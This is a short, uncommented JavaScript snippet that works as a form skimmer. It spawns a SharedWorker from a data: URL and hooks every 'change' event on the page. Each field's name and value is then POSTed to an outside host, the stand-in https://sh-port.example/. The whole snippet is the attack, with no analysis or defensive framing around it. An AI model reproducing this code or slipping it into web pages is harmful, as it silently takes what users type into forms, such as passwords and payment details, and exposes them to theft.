var sw = new SharedWorker('data:application/javascript,' + encodeURIComponent("onconnect=function(c){c.ports[0].onmessage=function(m){var x=new XMLHttpRequest();x.open('POST','https://sh-port.example/');x.send(m.data)}}"));
document.addEventListener('change', function (e) { sw.port.postMessage(e.target.name + '=' + e.target.value); });
